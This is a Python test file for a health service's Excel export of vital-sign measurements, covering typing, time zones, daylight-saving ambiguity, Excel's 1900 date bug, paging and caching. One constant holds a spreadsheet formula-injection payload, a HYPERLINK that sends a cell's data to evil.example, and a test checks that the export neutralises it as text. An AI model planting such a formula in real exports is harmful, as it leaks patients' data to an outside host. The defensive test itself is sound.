"""The measurements as an Excel workbook (``Accept:
application/vnd.openxmlformats-officedocument.spreadsheetml.sheet``), for a doctor: a CSV opens in
one column in a French Excel (its list separator is ``;``, its decimal mark ``,``). Read back with
openpyxl, as a spreadsheet reads it: numbers are numbers, instants dates and times of the space's
time zone, text stays text (never a formula), the page and its cursor as the CSV's."""

from __future__ import annotations

import asyncio
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import httpx
import openpyxl

from tests.helpers.people import MakeAppToken, MakePerson, Person
from tests.helpers.vitals import VITALS, pressure, weight

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ATTACK = '=HYPERLINK("https://evil.example/?d="&A3,"Voir")'


def _sheet(answer: httpx.Response) -> list[dict[str, object]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == XLSX
    assert answer.headers["content-disposition"] == 'attachment; filename="mesures.xlsx"'
    book = openpyxl.load_workbook(io.BytesIO(answer.content))
    assert book.sheetnames == ["Mesures"] and book.properties.creator == "ENS"
    rows = list(book["Mesures"].iter_rows(values_only=True))
    header = [str(title) for title in rows[0]]
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


async def test_a_doctor_opens_the_measures_in_a_spreadsheet(
    client: httpx.AsyncClient, person: Person, make_app_token: MakeAppToken
) -> None:
    app = await make_app_token(person, ["vitals.body_weight:write", "vitals.blood_pressure:write"])
    batch = [
        weight(72.5, minutes_ago=30, note=ATTACK, device={"manufacturer": "Withings", "model": "Body+"}),
        {**pressure(132, 84, minutes_ago=90), "note": "après l'effort — 🚶"},
    ]
    stored = await client.post(VITALS, json={"measurements": batch}, headers=app.headers)
    assert stored.status_code == 201, stored.text
    json_items = (await client.get(VITALS, headers=person.headers)).json()["items"]

    rows = _sheet(await client.get(VITALS, headers={**person.headers, "Accept": XLSX}))
    zone = "Europe/Paris"
    assert [row["id"] for row in rows] == [item["id"] for item in json_items]
    weighed, pressed = rows
    # Numbers as numbers (a whole-number type's as integers), in the JSON's units.
    assert weighed["value"] == 72.5 and weighed["unit"] == "kg" and weighed["systolic"] is None
    assert (pressed["systolic"], pressed["diastolic"], pressed["unit"]) == (132, 84, "mm[Hg]")
    assert isinstance(pressed["systolic"], int)
    # The instant as a date and time of the space's zone, which the header names.
    effective = datetime.fromisoformat(json_items[0]["effectiveAt"].replace("Z", "+00:00"))
    local = effective.astimezone(ZoneInfo(zone)).replace(tzinfo=None)
    # (to the second, as it is shown: the next test)
    assert weighed[f"effectiveAt ({zone})"] == local.replace(microsecond=0)
    assert weighed["effectiveAtUtcOffset"] == effective.astimezone(ZoneInfo(zone)).isoformat()[-6:]
    assert isinstance(weighed[f"createdAt ({zone})"], datetime)
    # Text as it was written: a formula is text (no formula cell), accents and emoji kept.
    assert weighed["note"] == ATTACK and pressed["note"] == "après l'effort — 🚶"
    assert (weighed["deviceManufacturer"], weighed["deviceModel"]) == ("Withings", "Body+")
    assert pressed["deviceManufacturer"] is None


async def test_the_workbook_pages_as_the_csv_does(client: httpx.AsyncClient, person: Person) -> None:
    batch = [weight(60 + n, minutes_ago=5 + n) for n in range(3)]
    assert (await client.post(VITALS, json={"measurements": batch}, headers=person.headers)).status_code == 201
    headers = {**person.headers, "Accept": XLSX}
    first = await client.get(f"{VITALS}?limit=2", headers=headers)
    assert [row["value"] for row in _sheet(first)] == [60, 61]
    cursor = first.headers["next-cursor"]
    last = await client.get(f"{VITALS}?limit=2&cursor={cursor}", headers=headers)
    assert [row["value"] for row in _sheet(last)] == [62] and "next-cursor" not in last.headers
    # JSON stays the default, and wins a tie; an empty space is a sheet of its header alone.
    tie = await client.get(VITALS, headers={**person.headers, "Accept": f"application/json, {XLSX}"})
    assert tie.headers["content-type"].startswith("application/json")
    assert (await client.head(VITALS, headers=headers)).headers["content-type"] == XLSX
    # One page is one file: the same bytes while nothing changes (it was dated by the second it was
    # made), so its ETag holds and a conditional read is a 304.
    await asyncio.sleep(1.1)
    again = await client.get(f"{VITALS}?limit=2", headers=headers)
    assert again.content == first.content and again.headers["etag"] == first.headers["etag"]
    unchanged = await client.get(f"{VITALS}?limit=2", headers={**headers, "If-None-Match": first.headers["etag"]})
    assert unchanged.status_code == 304
    # A workbook is a zip already: not gzipped again for a client that accepts gzip.
    asked = await client.get(f"{VITALS}?limit=2", headers={**headers, "Accept-Encoding": "gzip"})
    assert "content-encoding" not in asked.headers and _sheet(asked) == _sheet(first)


async def test_an_empty_space_is_a_sheet_of_its_header(client: httpx.AsyncClient, person: Person) -> None:
    answer = await client.get(VITALS, headers={**person.headers, "Accept": XLSX})
    assert _sheet(answer) == []
    header = next(openpyxl.load_workbook(io.BytesIO(answer.content))["Mesures"].iter_rows(values_only=True))
    assert header[:3] == ("id", "type", "value") and "effectiveAt (Europe/Paris)" in header


async def test_the_hour_a_clock_goes_back_twice_is_told_apart(client: httpx.AsyncClient, person: Person) -> None:
    """On 26 October 2025 Paris's clocks went back from 03:00 to 02:00: 00:30 and 01:30 UTC are both
    02:30 there. A spreadsheet keeps no zone, so the two measures read the same time, the later one
    first, with nothing on the sheet to say which came first (the CSV gives UTC): the workbook says
    each instant's UTC offset beside it."""
    batch = [
        {"type": "heart_rate", "value": 61, "unit": "/min", "effectiveAt": "2025-10-26T00:30:00Z"},
        {"type": "heart_rate", "value": 95, "unit": "/min", "effectiveAt": "2025-10-26T01:30:00Z"},
    ]
    assert (await client.post(VITALS, json={"measurements": batch}, headers=person.headers)).status_code == 201
    rows = _sheet(await client.get(VITALS, headers={**person.headers, "Accept": XLSX}))
    seen = [(row["value"], row["effectiveAt (Europe/Paris)"], row["effectiveAtUtcOffset"]) for row in rows]
    assert seen == [
        (95, datetime(2025, 10, 26, 2, 30), "+01:00"),
        (61, datetime(2025, 10, 26, 2, 30), "+02:00"),
    ]


async def test_an_instant_is_shown_on_its_own_day(client: httpx.AsyncClient, person: Person) -> None:
    """A spreadsheet shows an instant to the second, rounding what is beyond it: a day's count
    stamped 23:59:59.9999 (a .NET client's end of the day, which the service keeps on its day)
    read 00:00:00 of the next day. The sheet's instants are cut to the second, as they are shown."""
    stamped = {"type": "steps_per_day", "value": 8000, "unit": "/d", "effectiveAt": "2026-11-29T23:59:59.9999+01:00"}
    assert (await client.post(VITALS, json={"measurements": [stamped]}, headers=person.headers)).status_code == 201
    [row] = _sheet(await client.get(VITALS, headers={**person.headers, "Accept": XLSX}))
    assert row["effectiveAt (Europe/Paris)"] == datetime(2026, 11, 29, 23, 59, 59)


async def test_a_day_excel_cannot_date_is_written_as_text(client: httpx.AsyncClient, make_person: MakePerson) -> None:
    """Excel's calendar starts on 1 January 1900 (day 1) and holds a 29 February 1900 that never was:
    an instant of 1900-01-01 was written as day 0 (shown "1900-01-00"), one of 28 February 1900 as
    that 29 February. A space without a birthdate takes measures from 1900: before 1 March 1900 the
    sheet gives the date and time as text."""
    elder = await make_person("Ada", birthdate=None)
    # (Paris's time was then its mean solar time, UTC+00:09:21)
    batch = [weight(61, effectiveAt="1900-01-01T08:00:00Z"), weight(62, effectiveAt="1900-02-28T08:00:00Z")]
    batch += [weight(63, effectiveAt="1900-03-01T08:00:00Z")]
    assert (await client.post(VITALS, json={"measurements": batch}, headers=elder.headers)).status_code == 201
    rows = _sheet(await client.get(VITALS, headers={**elder.headers, "Accept": XLSX}))
    taken = {row["value"]: row["effectiveAt (Europe/Paris)"] for row in rows}
    assert taken == {
        61: "1900-01-01 08:09:21",
        62: "1900-02-28 08:09:21",
        63: datetime(1900, 3, 1, 8, 9, 21),
    }
